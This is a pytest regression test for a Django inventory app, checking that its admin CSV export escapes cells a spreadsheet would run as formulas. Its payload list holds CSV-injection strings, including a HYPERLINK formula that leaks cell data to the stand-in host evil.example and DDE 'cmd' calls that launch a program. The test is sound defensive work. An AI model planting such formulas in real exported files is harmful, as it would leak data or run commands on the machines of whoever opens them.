"""CSV export: no cell a spreadsheet would run as a formula (issue 22, finding 1).

Before the fix a part named =HYPERLINK(…) or @SUM(…), or a SKU like =1+1-SS-M1-4, was exported as
written and ran when the file was opened.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from inventory.models import Category, SparePart

pytestmark = pytest.mark.django_db

COLUMNS = ("sku", "name", "category", "price", "stock", "min_stock")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTabbed",
    "\rReturn",
]


def exported(staff) -> list[dict]:
    form = {"format": "0", "resource": "", **{f"sparepartresource_{column}": "on" for column in COLUMNS}}
    response = staff.post(reverse("admin:inventory_sparepart_export"), form)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode().lstrip("\ufeff"))))


def test_formula_cells_are_exported_as_text_and_import_back_unchanged(staff):
    category = Category.objects.create(name="=cmd|' /C calc'!A0")
    for n, name in enumerate(PAYLOADS):
        SparePart.objects.create(name=name, sku=f"=1+{n}-SS-M1-4", price=Decimal("1.00"), stock=0, category=category)
    rows = exported(staff)
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("sku", "name", "category"):
            assert row[column].startswith("'"), (column, row[column])
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert {row["name"][1:] for row in rows} == set(PAYLOADS)
    # The file imports back as the same parts: nothing changes, nothing is created. (A carriage
    # return inside a cell comes back as a line feed whatever the escaping: that row is left out.)
    text = "sku,name,category,price,stock,min_stock\n" + "".join(
        ",".join(_quoted(row[column]) for column in COLUMNS) + "\n" for row in rows if "\r" not in row["name"]
    )
    preview = staff.post(
        reverse("admin:inventory_sparepart_import"),
        {"import_file": _upload(text), "format": "0", "resource": ""},
    )
    result = preview.context["result"]
    assert not result.has_validation_errors() and not result.has_errors()
    assert [(row.import_type, row.object_repr) for row in result.rows if row.import_type != "skip"] == []


def test_plain_values_are_exported_as_they_are(staff):
    SparePart.objects.create(name="Bolt", sku="A-STL-M10-50", price=Decimal("0.45"), stock=5)
    (row,) = exported(staff)
    assert (row["sku"], row["name"], row["price"]) == ("A-STL-M10-50", "Bolt", "0.45")


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _upload(text: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("parts.csv", text.encode(), content_type="text/csv")
